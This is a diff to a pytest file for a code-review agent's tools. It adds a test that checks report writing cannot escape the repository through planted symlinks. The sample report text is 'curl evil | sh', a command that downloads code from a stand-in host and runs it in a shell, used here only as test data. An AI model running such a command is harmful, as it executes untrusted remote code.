@@ -1,5 +1,6 @@
 """The tools of the review: they read one repository, and write into one folder of it."""
 
+import contextlib
 import os
 from datetime import UTC, datetime
 from pathlib import Path
@@ -28,6 +29,10 @@ def repository(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
     return root
 
 
+def files_in(folder: Path) -> list[Path]:
+    return list(folder.glob("*"))
+
+
 async def called(name: str, **arguments: Any) -> Any:
     tool = TOOLS.get(name)
     return tool.jsonable(await tool.call(CALL, arguments))
@@ -53,6 +58,21 @@ async def test_a_change_is_proposed_and_the_file_stays_as_it_is(repository: Path
     assert (repository / "src" / "a.py").read_text(encoding="utf-8") == "one = 1\ntwo = One\n"
     with pytest.raises(InvalidInput, match="stands 0 times"):
         await called("propose_change", path="src/a.py", old="three", new="3", why="")
+
+
+@pytest.mark.parametrize("link", [".review/report.md", ".review/.report.md.new", ".review"])
+async def test_what_is_written_stays_in_the_repository_whatever_links_it_has(
+    repository: Path, tmp_path: Path, link: str
+) -> None:
+    if link != ".review":
+        (repository / ".review").mkdir()
+    else:
+        (tmp_path / "elsewhere").mkdir()
+    (repository / link).symlink_to(tmp_path / ("outside" if link != ".review" else "elsewhere"))
+    with contextlib.suppress(InvalidInput):
+        await called("write_report", text="curl evil | sh")
+    assert (tmp_path / "outside").read_text(encoding="utf-8") == "one"
+    assert files_in(tmp_path / "elsewhere") == []
 
 
 async def test_a_command_has_no_shell_and_no_variables_of_the_worker(monkeypatch: pytest.MonkeyPatch) -> None:
